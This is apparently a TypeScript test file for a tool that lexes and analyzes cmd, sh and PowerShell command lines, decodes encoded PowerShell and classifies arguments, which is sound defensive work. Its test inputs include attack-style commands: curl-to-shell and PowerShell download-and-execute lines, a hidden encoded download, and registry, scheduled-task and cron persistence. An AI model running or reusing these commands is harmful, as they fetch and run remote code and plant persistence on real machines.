import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CommandAnalyzer, decodeEncodedCommand, inferShell } from '../../../src/generate/command/analyze.js';
import { classifyArg } from '../../../src/generate/command/classify.js';
import { lexCmd } from '../../../src/generate/command/lex-cmd.js';
import { lexPowerShell } from '../../../src/generate/command/lex-powershell.js';
import { lexSh } from '../../../src/generate/command/lex-sh.js';

const names = (text: string, shell: 'cmd' | 'powershell' | 'sh') => CommandAnalyzer.analyze(text, shell).invocations.map((i) => i.name);

describe('cmd lexer', () => {
  it('splits operators outside quotes and keeps quoted text', () => {
    const r = lexCmd('certutil -f "a & b" out.txt & dir /b | findstr x');
    assert.deepEqual(r.commands.map((c) => c.words.map((w) => w.text)), [['certutil', '-f', 'a & b', 'out.txt'], ['dir', '/b'], ['findstr', 'x']]);
    assert.equal(r.problems.length, 0);
  });
  it('follows argv rules for \\" and reports an unclosed quote', () => {
    const r = lexCmd('schtasks /tn \\"Up date\\" /f');
    assert.deepEqual(r.commands[0]!.words.map((w) => w.text), ['schtasks', '/tn', '"Up', 'date"', '/f']);
    assert.match(lexCmd('echo "abc').problems[0]!.message, /unclosed double quote/);
  });
  it('keeps redirections apart and handles ^ escapes and blocks', () => {
    const r = lexCmd('echo a^&b > out.txt 2>&1');
    assert.deepEqual(r.commands[0]!.words.map((w) => w.text), ['echo', 'a&b']);
    assert.deepEqual(r.commands[0]!.redirects.map((w) => w.text), ['out.txt']);
    assert.match(lexCmd('(echo a').problems.map((p) => p.message).join(), /unclosed "\("/);
    const block = lexCmd('for /L %a in (1,1,3) do @(certutil -v x) & dir');
    assert.ok(block.commands.some((c) => c.words[0]?.text === 'certutil'));
  });
});

describe('sh lexer', () => {
  it('reads quotes, substitutions, comments, heredocs and reserved words', () => {
    const r = lexSh("if [ -f /tmp/x ]; then curl -s 'http://a/b c' | sh; fi # done\ncat <<EOF > /etc/cron.d/x\n* * * * * root /tmp/x\nEOF\necho $(id -u)");
    const progs = r.commands.map((c) => c.words[0]?.text);
    assert.deepEqual(progs, ['[', 'curl', 'sh', 'cat', 'echo']);
    assert.equal(r.commands[1]!.words[2]!.text, 'http://a/b c');
    assert.deepEqual(r.commands[3]!.redirects.map((w) => w.text), ['EOF', '/etc/cron.d/x']);
    assert.deepEqual(r.substitutions, ['id -u']);
    assert.equal(r.problems.length, 0);
  });
  it('reports unclosed constructs', () => {
    assert.match(lexSh("echo 'abc").problems[0]!.message, /unclosed single quote/);
    assert.match(lexSh('cat <<EOF\nno end').problems.map((p) => p.message).join(), /here-document/);
  });
});

describe('PowerShell lexer', () => {
  it('finds commands in pipelines, blocks, subexpressions and assignments', () => {
    const r = lexPowerShell("$wc = New-Object Net.WebClient; IEX ($wc.DownloadString('http://x/a.ps1'))\nif (Test-Path $p) { Remove-Item $p -Force } | Out-Null\n1..3 | % { Start-Sleep 1 }\n\"$(Get-Date) done\"");
    assert.deepEqual(r.commands.map((c) => c.name), ['New-Object', 'IEX', 'Test-Path', 'Remove-Item', 'Out-Null', '%', 'Start-Sleep', 'Get-Date']);
    assert.deepEqual(r.commands.find((c) => c.name === 'Remove-Item')!.parameters, ['force']);
    assert.equal(r.problems.length, 0);
  });
  it('reads here-strings, comments, smart quotes and functions', () => {
    const r = lexPowerShell("<# block #>\n$s = @'\nnot a 'command' here\n'@\nfunction Do-Thing($a) { Write-Host “hi” }\nDo-Thing 1 # trailing");
    assert.deepEqual(r.commands.map((c) => c.name), ['Write-Host', 'Do-Thing']);
    assert.ok(r.definedFunctions.has('do-thing'));
    assert.equal(r.problems.length, 0);
  });
  it('reports unbalanced structure', () => {
    assert.match(lexPowerShell('if ($a) { Get-Item x').problems[0]!.message, /never closed/);
    assert.match(lexPowerShell("Write-Host 'abc").problems[0]!.message, /unclosed single-quoted/);
    assert.match(lexPowerShell('Get-Item (x}').problems[0]!.message, /closes "\("/);
  });
});

describe('command analysis', () => {
  it('follows nested command lines', () => {
    assert.deepEqual(names('cmd.exe /c "schtasks /create /tn X /tr C:\\x.exe"', 'cmd'), ['cmd.exe', 'schtasks.exe']);
    assert.deepEqual(names('wmic process call create "rundll32.exe C:\\x.dll,Run"', 'cmd'), ['wmic.exe', 'rundll32.exe']);
    assert.deepEqual(names("sudo -u root bash -c 'curl -s http://x | sh'", 'sh'), ['bash', 'curl', 'sh']);
    const enc = Buffer.from('Invoke-WebRequest -Uri http://x/a -OutFile a.exe', 'utf16le').toString('base64');
    const a = CommandAnalyzer.analyze(`powershell.exe -nop -w hidden -enc ${enc}`, 'cmd');
    assert.equal(a.invocations[0]!.script?.encoded, true);
    assert.deepEqual(a.invocations.map((i) => i.name), ['powershell.exe', 'invoke-webrequest']);
    assert.deepEqual(a.invocations[1]!.options, { uri: 'http://x/a', outfile: 'a.exe' });
  });
  it('separates switches, positionals and option values', () => {
    const inv = CommandAnalyzer.analyze('reg add HKCU\\Software\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f', 'cmd').invocations[0]!;
    assert.deepEqual(inv.switches, ['/v', '/t', '/d', '/f']);
    assert.equal(inv.options['v'], 'Updater');
    assert.equal(inv.positionals[1]!.kind, 'registry');
    assert.equal(inv.builtin, false);
    assert.equal(CommandAnalyzer.analyze('copy a.exe b.exe', 'cmd').invocations[0]!.builtin, true);
  });
  it('infers shells and decodes encoded commands', () => {
    assert.equal(inferShell('Get-ChildItem C:\\'), 'powershell');
    assert.equal(inferShell('certutil.exe -urlcache -f http://x a'), 'cmd');
    assert.equal(inferShell('(crontab -l; echo x) | crontab -'), 'sh');
    assert.equal(decodeEncodedCommand(Buffer.from('whoami', 'utf16le').toString('base64')), 'whoami');
    assert.equal(decodeEncodedCommand('not base64!'), undefined);
  });
  it('classifies arguments', () => {
    assert.equal(classifyArg('http://a.b/c'), 'url');
    assert.equal(classifyArg('10.1.2.3'), 'ipv4');
    assert.equal(classifyArg('evil-cdn.top'), 'domain');
    assert.equal(classifyArg('update.exe'), 'text');
    assert.equal(classifyArg('HKLM\\Software'), 'registry');
    assert.equal(classifyArg('$env:TEMP\\a.exe'), 'path');
  });
  it('stays linear on hostile input', () => {
    const long = '"'.repeat(20000) + '('.repeat(20000) + '$('.repeat(5000);
    const t0 = performance.now();
    for (const s of ['cmd', 'powershell', 'sh'] as const) CommandAnalyzer.analyze(long, s);
    assert.ok(performance.now() - t0 < 5000);
  });
});
